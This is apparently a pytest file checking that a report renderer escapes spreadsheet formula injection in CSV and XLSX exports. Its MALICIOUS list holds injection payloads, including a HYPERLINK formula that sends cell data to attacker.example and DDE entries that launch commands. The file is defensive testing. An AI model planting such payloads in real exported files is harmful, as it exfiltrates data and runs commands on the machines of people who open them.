"""Report files (CSV zip and XLSX) never hand a spreadsheet a formula written by a user."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from api.reports.render import csv_zip, xlsx
from api.reports.tables import Cell, Table

# Text a user can put in a meter name or a comment, each a formula when a spreadsheet opens it.
MALICIOUS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table(names: list[str]) -> Table:
    rows: list[tuple[Cell, ...]] = [(name, -12.5, -3, date(2026, 3, 1)) for name in names]
    rows.append(("Boiler A = main", 4.0, 0, None))  # "=" inside the text is harmless
    return Table("meters", ("meter_name", "tco2e", "count", "day"), tuple(rows))


def _csv_rows(data: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("meters.csv").decode()
    return list(csv.reader(io.StringIO(text, newline="")))  # as RFC 4180 reads it


@pytest.mark.parametrize("name", MALICIOUS)
def test_a_csv_cell_a_spreadsheet_would_evaluate_is_written_as_quoted_text(name: str) -> None:
    header, row, harmless = _csv_rows(csv_zip([_table([name])]))
    assert header == ["meter_name", "tco2e", "count", "day"]
    assert row == ["'" + name, "-12.5", "-3", "2026-03-01"]  # negative numbers stay numbers
    assert harmless[0] == "Boiler A = main"


@pytest.mark.parametrize("name", MALICIOUS)
def test_an_xlsx_cell_a_spreadsheet_would_evaluate_is_written_as_quoted_text(name: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx([_table([name])])))
    sheet = book["meters"]
    name_cell, tco2e, count = sheet["A2"], sheet["B2"], sheet["C2"]
    # XML turns a stored carriage return into a line feed on reading; the quote is what counts.
    assert name_cell.value == "'" + name.replace("\r", "\n")
    assert name_cell.data_type == "s"  # text, not a formula ("f")
    assert (tco2e.value, tco2e.data_type) == (-12.5, "n")
    assert (count.value, count.data_type) == (-3, "n")
    assert sheet["A3"].value == "Boiler A = main"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_text_with_characters_a_sheet_cannot_hold_still_renders() -> None:
    """Stored free text may hold control characters XML cannot carry: the workbook shows them as
    U+FFFD rather than failing (a 500 for the whole report)."""
    table = Table("t", ("note",), (("bell\x07and\x1bescape",),))
    book = openpyxl.load_workbook(io.BytesIO(xlsx([table])))
    assert book["t"]["A2"].value == "bell\ufffdand\ufffdescape"
